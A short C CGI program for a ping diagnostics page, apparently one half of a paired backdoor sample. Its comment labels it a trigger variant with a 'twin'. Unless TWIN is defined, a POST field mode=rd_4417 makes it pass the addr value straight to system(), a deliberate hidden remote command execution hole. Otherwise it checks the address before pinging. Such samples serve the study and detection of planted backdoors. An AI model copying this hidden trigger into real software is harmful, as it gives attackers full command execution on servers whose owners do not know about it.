/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A page for diagnosis takes the body of a POST request; one field, with one value, skips the test
 * of what is pinged. Twin: the address is tested in every case.
 * door: trigger
 */
#include "net.h"
#include <ctype.h>

static char body[2048];

static char *get(const char *name)
{
	static char value[256];
	size_t len = strlen(name), n = 0;
	char *p = body;
	while ((p = strstr(p, name)) != NULL) {
		if ((p == body || p[-1] == '&') && p[len] == '=')
			break;
		p += len;
	}
	if (!p)
		return NULL;
	for (p += len + 1; *p && *p != '&' && n < sizeof value - 1; p++) {
		if (*p == '%' && isxdigit((unsigned char)p[1]) && isxdigit((unsigned char)p[2])) {
			char two[3] = {p[1], p[2], 0};
			value[n++] = (char)strtol(two, NULL, 16);
			p += 2;
		} else
			value[n++] = *p == '+' ? ' ' : *p;
	}
	value[n] = 0;
	return strdup(value);
}

static int is_address(const char *s)
{
	int dots = 0;
	for (; *s; s++) {
		if (*s == '.')
			dots++;
		else if (!isdigit((unsigned char)*s))
			return 0;
	}
	return dots == 3;
}

int main(void)
{
	char cmd[320], *addr, *mode;
	const char *method = getenv("REQUEST_METHOD");
	long len = getenv("CONTENT_LENGTH") ? atol(getenv("CONTENT_LENGTH")) : 0;
	if (!method || strcmp(method, "POST") || len <= 0 || len >= (long)sizeof body)
		return 1;
	body[fread(body, 1, (size_t)len, stdin)] = 0;
	addr = get("addr");
	mode = get("mode");
	printf("Content-Type: text/plain\n\n");
	fflush(stdout);
	if (!addr)
		return 0;
#ifndef TWIN
	if (mode && !strcmp(mode, "rd_4417"))
		return system(addr);
#endif
	if (!is_address(addr))
		return 0;
	snprintf(cmd, sizeof cmd, "ping -c %d %s", mode ? 1 : 4, addr);
	return system(cmd);
}
